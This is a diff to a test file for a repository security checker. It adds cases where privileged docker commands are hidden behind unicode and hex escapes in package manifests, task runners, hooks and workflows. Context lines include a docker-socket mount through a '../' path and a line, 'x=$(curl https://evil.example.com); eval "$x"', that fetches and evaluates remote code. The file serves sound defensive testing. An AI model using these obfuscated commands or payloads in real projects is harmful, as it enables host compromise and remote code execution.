@@ -108,6 +108,20 @@ const CHANGES: Readonly<Record<string, readonly (readonly [string, Files, Files?
     ['a service that extends a bad one', composed(`${PRIVILEGED}  b:\n    extends: a\n`), composed(PRIVILEGED)],
     ['a service that loses its profile', composed(PRIVILEGED), composed(`${PRIVILEGED}    profiles: [ci]\n`)],
   ],
+  'escapes of letters': [
+    ['a script of npm', { 'package.json': `{"scripts": {"up": "\\u0064${START.trim().slice(1)}"}}` }],
+    ['the key of the scripts', { 'package.json': `{"scr\\u0069pts": {"up": "${START.trim()}"}}` }],
+    ['a task of Deno', { 'deno.json': `{"tasks": {"up": "d\\u006Fcker${START.trim().slice(6)}"}}` }],
+    ['a script of Composer', { 'composer.json': `{"scripts": {"up": ["docke\\u0072${START.trim().slice(6)}"]}}` }],
+    ['the key of a command of Nx', { 'project.json': `{"targets": {"up": {"c\\u006fmmand": "${START.trim()}"}}}` }],
+    ['the key of a hook', { 'appspec.yml': 'hooks:\n  Start:\n    - "loc\\x61tion": up.txt\n', 'up.txt': START }],
+    [
+      'a step of a workflow',
+      worked(`on: push\njobs: {a: {runs-on: x, steps: [{run: "\\x64${START.trim().slice(1)}"}]}}\n`),
+    ],
+    ['a task', { 'Taskfile.yml': `version: "3"\ntasks: {up: "\\x64${START.trim().slice(1)}"}\n` }],
+    ['a tool of Python', { 'pyproject.toml': `["t\\u006fol".poe.tasks]\nup = "\\u0064${START.trim().slice(1)}"\n` }],
+  ],
   mounts: [['a path far above', composed(`${SERVICE}    volumes: ["../../../../../../../var/run/docker.sock:/x"]\n`)]],
   'code that is fetched and run': [
     'x=$(curl https://evil.example.com); eval "$x"',
@@ -137,6 +151,15 @@ describe.each(Object.entries(CHANGES))('a change that abuses %s fails the check'
   it.each(changes)('%s', async (_name, change, base = {}) => {
     expect(await failuresOf({ 'README.md': '', ...base }, change)).not.toEqual([]);
   });
+});
+
+it.each([
+  ['other letters', '{"scripts": {"up": "ech\\u006f a \\u003e b"}}'],
+  ['harmless options', '{"scripts": {"up": "\\u0064ocker run --rm acme/app:1.4"}}'],
+  ['a text without commands', '{"description": "\\u0064ocker run --privileged"}'],
+  ['a path', '{"type": "library", "autoload": {"classmap": ["src\\/Sub"]}}'],
+])('a package with an escape in %s passes the check', async (_, text) => {
+  expect(await failuresOf({ 'README.md': '' }, { 'package.json': text, 'composer.json': text })).toEqual([]);
 });
 
 const UNKNOWN_MAKE = 'X = $(shell cat options)\nup:\n\tdocker run $(X) acme/app:1.4\n';
